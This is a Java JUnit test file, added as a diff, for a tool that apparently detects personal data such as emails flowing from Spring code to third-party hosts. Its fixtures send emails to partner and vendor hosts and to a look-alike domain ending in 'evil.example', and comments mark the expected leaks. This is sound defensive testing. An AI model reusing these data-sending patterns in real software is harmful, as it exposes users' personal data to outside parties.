@@ -1,0 +1,217 @@
+package io.github.piiflow.recipient;
+
+import static io.github.piiflow.testing.LeakFolder.check;
+
+import org.junit.jupiter.api.Test;
+
+/** To whom it goes: resolved hosts, own ones, vendors. */
+class RecipientsTest {
+    private static final String OWN =
+            "version: 1\nfirstParty: { hosts: [crm.acme.example, \"*.internal.acme.example\"] }\n";
+
+    private static final String PERSON = """
+            public class Person {
+                private String email;
+                private String orderNo;
+                public String getEmail() { return email; }
+                public String getOrderNo() { return orderNo; }
+            }
+            """;
+
+    private static void checkClass(String settings, String source) {
+        check(
+                "piiflow.yml",
+                OWN,
+                "app/src/main/java/Person.java",
+                PERSON,
+                "app/src/main/java/Desk.java",
+                source,
+                "app/src/main/resources/application.yml",
+                settings);
+    }
+
+    @Test
+    void constantsAndJoinedTexts() {
+        checkClass("a: b", """
+                import org.springframework.web.client.RestTemplate;
+                class Desk {
+                    private static final String HOST = "partner.example";
+                    private static final String HOME = "https://ledger.internal.acme.example";
+                    private final RestTemplate rest = new RestTemplate();
+                    void run(Person p, String path) {
+                        rest.put("https://" + HOST + "/p", p.getEmail()); // leak: email -> http to partner.example
+                        rest.put(HOME + "/p", p.getEmail());
+                        rest.put(HOME + path, p.getEmail());
+                        rest.put(HOME + ".evil.example/p", p.getEmail()); // leak: email -> http to ledger.internal.acme.example.evil.example
+                        rest.put(String.format("https://%s/p", "crm.acme.example"), p.getEmail());
+                        rest.put("https://x.crm.acme.example/p", p.getEmail()); // leak: email -> http to x.crm.acme.example
+                        rest.put("http://localhost:8080/p", p.getEmail());
+                        rest.put(path, p.getEmail()); // leak: email -> http
+                        rest.put("https://partner.example/p", p.getOrderNo());
+                    }
+                }
+                """);
+    }
+
+    @Test
+    void settingsWithProfilesAndDefaults() {
+        checkClass("""
+                crm: { url: "https://crm.acme.example/api" }
+                ads.base-url: ${ads.host}/v1
+                ads.host: https://ads.example
+                """, """
+                import org.springframework.beans.factory.annotation.Value;
+                import org.springframework.web.client.RestTemplate;
+                class Desk {
+                    @Value("${crm.url}") private String crm;
+                    @Value("${ADS_BASEURL:https://crm.acme.example}") private String upper;
+                    @Value("${missing:https://crm.acme.example}") private String fallback;
+                    private final String ads;
+                    private final RestTemplate rest;
+                    Desk(@Value("${ads.base-url}") String ads, RestTemplate rest) { this.ads = ads; this.rest = rest; }
+                    void run(Person p) {
+                        rest.put(crm + "/p", p.getEmail());
+                        rest.put(fallback + "/p", p.getEmail());
+                        rest.put(ads + "/p", p.getEmail()); // leak: email -> http to ads.example
+                    }
+                }
+                """);
+    }
+
+    @Test
+    void anyProfileMayBeTheOneInProduction() {
+        check(
+                "piiflow.yml",
+                OWN,
+                "src/main/java/Person.java",
+                PERSON,
+                "src/main/java/Desk.java",
+                """
+                import org.springframework.core.env.Environment;
+                import org.springframework.web.client.RestTemplate;
+                class Desk {
+                    private Environment environment;
+                    private RestTemplate rest;
+                    void run(Person p) {
+                        rest.put(environment.getProperty("crm.url") + "/p", p.getEmail()); // leak: email -> http to ads.example
+                    }
+                }
+                """,
+                "src/main/resources/application.properties",
+                "crm.url = https://crm.acme.example\n",
+                "src/main/resources/application-prod.properties",
+                "# comment\ncrm.url = https://ads.\\\n  example\n");
+    }
+
+    @Test
+    void classesBoundToAPrefix() {
+        checkClass("""
+                partner:
+                  base-url: https://partner.example
+                  own: { base-url: https://crm.acme.example }
+                """, """
+                import org.springframework.boot.context.properties.ConfigurationProperties;
+                import org.springframework.web.client.RestTemplate;
+                class Desk {
+                    private RestTemplate rest;
+                    private Partner partner;
+                    void run(Person p) {
+                        rest.put(partner.getBaseUrl() + "/p", p.getEmail()); // leak: email -> http to partner.example
+                        rest.put(partner.own.baseUrl + "/p", p.getEmail());
+                    }
+                    @ConfigurationProperties("partner")
+                    static class Partner {
+                        private String baseUrl;
+                        Inner own;
+                        String getBaseUrl() { return baseUrl; }
+                    }
+                    static class Inner { String baseUrl; }
+                }
+                """);
+    }
+
+    @Test
+    void wrappersAreResolvedAtTheirCallers() {
+        checkClass("a: b", """
+                import org.springframework.web.client.RestTemplate;
+                class Desk {
+                    private RestTemplate rest;
+                    private void own(String path, String body) { rest.put("https://crm.acme.example" + path, body); }
+                    private void any(String url, String body) {
+                        rest.put(url, body); // leak: email -> http to partner.example
+                    }
+                    private void home(String url, String body) { rest.put(url, body); }
+                    void run(Person p) {
+                        own("/p", p.getEmail());
+                        any("https://partner.example/p", p.getEmail());
+                        home("https://crm.acme.example/p", p.getEmail());
+                    }
+                }
+                """);
+    }
+
+    @Test
+    void vendorsAreKnownByTheirHosts() {
+        checkClass("a: b", """
+                import org.springframework.web.client.RestTemplate;
+                class Desk {
+                    private RestTemplate rest;
+                    void run(Person p, String token) {
+                        rest.put("https://api.stripe.com/v1/customers", p.getEmail()); // leak: email -> http to stripe
+                        rest.put("https://hooks.slack.com/services/x", p.getEmail()); // leak: email -> http to slack
+                    }
+                }
+                """);
+    }
+
+    @Test
+    void streamsToTheNetwork() {
+        checkClass("a: b", """
+                import java.io.*;
+                import java.net.*;
+                class Desk {
+                    void own(Person p) throws IOException {
+                        try (Socket s = new Socket("crm.acme.example", 90)) {
+                            new PrintWriter(s.getOutputStream()).println(p.getEmail());
+                        }
+                    }
+                    void foreign(Person p) throws IOException {
+                        HttpURLConnection c = (HttpURLConnection) URI.create("https://partner.example/x").toURL().openConnection();
+                        c.setRequestProperty("X-Mail", p.getEmail()); // leak: email -> http to partner.example
+                        c.getOutputStream().write(p.getEmail().getBytes()); // leak: email -> http to partner.example
+                        c.getOutputStream().write(p.getOrderNo().getBytes());
+                    }
+                    String local(Person p) throws IOException {
+                        StringWriter out = new StringWriter();
+                        out.write(p.getEmail());
+                        return out.toString();
+                    }
+                }
+                """);
+    }
+
+    @Test
+    void declaredClients() {
+        checkClass("""
+                clients: { own: "https://crm.acme.example" }
+                spring.cloud.openfeign.client.config.named.url: https://named.example
+                """, """
+                import org.springframework.cloud.openfeign.FeignClient;
+                import org.springframework.web.service.annotation.GetExchange;
+                import org.springframework.web.service.annotation.HttpExchange;
+                class Desk {
+                    @FeignClient(name = "own", url = "${clients.own}") interface Own { void send(Person p); }
+                    @FeignClient("named") interface Named { void send(Person p); }
+                    @HttpExchange("https://geo.example") interface Geo { @GetExchange("/x") String find(String text); }
+                    interface Plain { void send(Person p); }
+                    void run(Own own, Named named, Geo geo, Plain plain, Person p) {
+                        own.send(p);
+                        plain.send(p);
+                        named.send(p); // leak: email -> http to named.example
+                        geo.find(p.getEmail()); // leak: email -> http to geo.example
+                        geo.find(p.getOrderNo());
+                    }
+                }
+                """);
+    }
+}
